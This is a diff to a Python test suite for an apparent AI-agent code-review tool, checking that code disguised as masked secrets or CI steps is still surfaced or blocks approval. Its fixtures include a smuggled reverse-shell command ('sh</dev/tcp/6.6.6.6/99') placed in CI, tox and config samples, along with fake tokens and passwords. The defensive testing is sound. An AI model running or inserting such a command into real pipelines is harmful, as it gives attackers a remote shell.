@@ -162,6 +162,11 @@ def modified(path: str, *lines: str, at: int = 40, mode: str = "100644") -> File
     return FileChange(Status.MODIFIED, path, new_mode=mode, added=1, hunks=(hunk,))
 
 
+def added(path: str, *lines: str) -> FileChange:
+    signed = tuple(f"+{line}" for line in lines)
+    return FileChange(Status.ADDED, path, added=len(lines), hunks=(Hunk(0, 0, 1, len(lines), "", signed),))
+
+
 DOUBTFUL = {
     "a text of many lines that ends": modified("a.py", ' the end"""', "+token = runBackdoorXy7Zq2Kp9", ' """'),
     "a comment that ends": modified("a.js", " */", "+x = `", "+token = runBackdoorXy7Zq2Kp9", "+`"),
@@ -184,6 +189,70 @@ def test_a_mask_that_may_hide_code_leaves_the_file_unread(world: MockWorld, case
     assert "what is masked as a secret may be code in line 41" in report_text(document)
 
 
+NAME = "runBackdoorXy7Zq2Kp9"
+SETS = f"token = {NAME}"
+RUNS = "PASSWORD=aB3dE5fG7hI9;sh</dev/tcp/6.6.6.6/99"
+ISSUED = "ghp_" + "x7Kq2Zv9Bm4Tj6RwLpHn3Ys8Dc5Fg1Ea0QbU"
+SHOWN, UNREAD = "shown", "unread"
+HIDING = {
+    "GitLab, within a block": (".gitlab-ci.yml", f"    - make\n    - {RUNS}", 30, UNREAD),
+    "a workflow, within a block": (".github/workflows/ci.yml", f"          set -e\n          {RUNS}", 30, UNREAD),
+    "a list of YAML that may be run": (".gitlab-ci.yml", f".x: &x\n  - {RUNS}", 1, UNREAD),
+    "a step that calls Python": (".github/workflows/ci.yml", f"          {SETS}", 30, UNREAD),
+    "tox": ("tox.ini", f"[testenv]\ncommands =\n    {RUNS}", 1, UNREAD),
+    "a task of TOML": ("pyproject.toml", f'[tool.x.tasks]\nlint = """\n{RUNS}\n"""', 1, UNREAD),
+    "a script of npm": ("package.json", f'{{"scripts": {{"a": "PASSWORD=aB3dE5fG7hI9 {NAME}"}}}}', 1, UNREAD),
+    "properties": ("a.properties", RUNS, 1, UNREAD),
+    "F#": ("a.fs", f'let password = $"Zq7pX2{{{NAME}()}}mW9kLv4"', 1, SHOWN),
+    "Visual Basic": ("a.vb", f'password = $"Zq7pX2{{{NAME}()}}mW9kLv4"', 1, SHOWN),
+    "CoffeeScript": ("a.coffee", f'password = "Zq7pX2#{{{NAME}()}}mW9kLv4"', 1, SHOWN),
+    "SCSS": ("a.scss", f'$password: "Zq7pX2#{{{NAME}()}}mW9kLv4"', 1, SHOWN),
+    "Vue": ("a.vue", f'<X :password="Zq7pX2+{NAME}()"/>', 1, SHOWN),
+    "Razor": ("a.cshtml", f'<x password="Zq7pX2@({NAME}())mW9kLv4"/>', 1, SHOWN),
+    "Tcl": ("a.tcl", f'set password "Zq7pX2[{NAME} x]mW9kLv4"', 1, SHOWN),
+    "ColdFusion": ("a.cfm", f'<cfset password = "Zq7pX2#{NAME}()#mW9kLv4">', 1, SHOWN),
+    "Cue": ("a.cue", f'password: "Zq7pX2\\({NAME})mW9kLv4"', 1, SHOWN),
+    "an index of Perl": ("a.pl", f"$password = \"Zq7pX2$x[system('{NAME}')]mW9kLv4\";", 1, SHOWN),
+    "apostrophes of JSX": ("a.jsx", f"x = <p>don't</p>; {SETS}; y = <p>can't</p>", 1, UNREAD),
+    "brackets in brackets of Ruby": ("a.rb", f"x = %q{{a{{b}}'}}; {SETS}; y = %q{{'}}", 1, UNREAD),
+    "quotes of Perl": ("a.pl", f"$x = q^'^; {SETS}; $y = q^'^;", 1, UNREAD),
+    "CMake": ("CMakeLists.txt", SETS, 1, UNREAD),
+    "Bazel": ("BUILD", SETS, 1, UNREAD),
+    "Meson": ("meson.build", SETS, 1, UNREAD),
+    "an unknown extension": ("a.bicep", SETS, 9, UNREAD),
+    "a CGI": ("a.cgi", SETS, 9, UNREAD),
+    "a program named as prose": ("a.txt", f"#!/bin/sh\npassword {NAME}", 1, SHOWN),
+    "a carriage return": ("a.py", f"# x\r{SETS}", 1, UNREAD),
+    "a line separator": ("a.js", f"// x\u2028{SETS}", 1, UNREAD),
+    "a next line": ("a.cs", f"// x\u0085{SETS}", 1, UNREAD),
+    "a token that a workflow runs": (
+        ".github/workflows/ci.yml",
+        f"jobs:\n  a:\n    steps:\n      - run: {ISSUED}",
+        1,
+        UNREAD,
+    ),
+    "a token in the text of JSX": ("a.jsx", f"<code>{ISSUED}</code>", 1, UNREAD),
+    "a token in an unknown language": ("a.nim", f"# {ISSUED}", 1, UNREAD),
+    "a token that a shell calls": ("a.sh", f"sudo {ISSUED}", 1, UNREAD),
+    "a pattern too long to read": ("a.js", f'x = "{ISSUED}";\n{"/[" * 300}; password = "x7Kq2Zv9Bm4Tj6R";', 1, UNREAD),
+}
+
+
+@pytest.mark.parametrize("path, text, at, seen", HIDING.values(), ids=HIDING)
+def test_code_is_shown_or_its_file_is_not_approved(world: MockWorld, path: str, text: str, at: int, seen: str) -> None:
+    lines = [f"+{line}" for line in text.split("\n")]
+    file = modified(path, *lines, at=at) if at > 1 else added(path, *text.split("\n"))
+    visible = any(NAME in line or "</dev/tcp" in line for hunk in shown_file(file).hunks for line in hunk.lines)
+    assert visible if seen == SHOWN else doubtful_lines(file)
+    world.change(file)
+    world.agents.script(Role.EXECUTOR, approve())
+    world.agents.script(Role.POST_VERIFY, confirm())
+    document = world.review()
+    assert seen == SHOWN or document.outcome is not Outcome.APPROVED
+    for role in (Role.EXECUTOR, Role.POST_VERIFY):
+        assert all(ISSUED.removeprefix("ghp_") not in str(call) for call in world.calls(role))
+
+
 ORDINARY = {
     "a password in its quotes": modified("a.py", ' """The end."""', '+password = "x7Kq2Zv9Bm4Tj6R"', " y"),
     "one of shells": modified("a.sh", " x 'y'", "+PASSWORD='x7Kq2Zv9Bm4Tj6R'", " z"),
@@ -193,6 +262,44 @@ ORDINARY = {
     "a template": modified("a.js", " x = `y`", "+password = `x7Kq2Zv9Bm4Tj6R`", " z"),
     "a comment": modified("a.go", " /* y */", "+// password: x7Kq2Zv9Bm4Tj6R", " z"),
     "no secret": modified("a.py", ' """', "+token = run_the_front_door(x)", ' """'),
+    **{
+        f"{path}: {line}": modified(path, " ", f"+{line.format('x7Kq2Zv9Bm4Tj6R')}", " ")
+        for path, line in (
+            ("a.py", '    client = Client(password="{}", retries=f(1))'),
+            ("a.py", "# password: {}"),
+            ("a.py", 'URL = "postgres://u:{}@db/x"'),
+            ("a.js", 'const password = "{}";'),
+            ("a.ts", "const password: string = '{}';"),
+            ("a.js", "// password: {}"),
+            ("a.go", 'password := "{}"'),
+            ("A.java", 'String password = "{}";'),
+            ("a.rb", "password = '{}'"),
+            ("a.php", '$password = "{}";'),
+            ("a.pl", 'my $password = "{}";'),
+            ("a.cs", 'var password = @"{}";'),
+            ("a.kt", 'val password = "{}"'),
+            ("a.swift", 'let password = "{}"'),
+            ("a.rs", 'let password = "{}";'),
+            ("a.sh", 'export PASSWORD="{}"'),
+            ("a.sh", "PASSWORD={} ./run"),
+            ("Dockerfile", "ENV PASSWORD={}"),
+            (".env", "PASSWORD={}"),
+            (".env", "DATABASE_URL=postgres://u:{}@db/x"),
+            ("a.yml", 'password: "{}"'),
+            ("docker-compose.yml", "      POSTGRES_PASSWORD: {}"),
+            ("docker-compose.yml", "      - POSTGRES_PASSWORD={}"),
+            ("a.properties", "db.password={}"),
+            ("a.toml", 'password = "{}"'),
+            ("a.ini", "password = {}"),
+            ("a.json", '  "password": "{}",'),
+            ("settings.xml", "<password>{}</password>"),
+            ("README.md", "The password is `{}`."),
+            ("README.md", "password: {}"),
+        )
+    },
+    "a key": modified(
+        "a.pem", " -----BEGIN RSA PRIVATE KEY-----", "+MIIEpAIBAAKCAQEAx7Kq2Zv9Bm4Tj6Rw1Lx7Kq2Zv9Bm4Tj6Rw1L"
+    ),
 }
 
 
@@ -200,11 +307,6 @@ ORDINARY = {
 def test_an_ordinary_secret_is_masked_and_its_file_is_read(file: FileChange) -> None:
     assert holds_mark("\n".join(shown_file(file).hunks[0].lines)) is (file is not ORDINARY["no secret"])
     assert doubtful_lines(file) == ()
-
-
-def added(path: str, *lines: str) -> FileChange:
-    signed = tuple(f"+{line}" for line in lines)
-    return FileChange(Status.ADDED, path, added=len(lines), hunks=(Hunk(0, 0, 1, len(lines), "", signed),))
 
 
 def test_a_value_of_a_test_is_no_name_of_the_code(world: MockWorld) -> None:
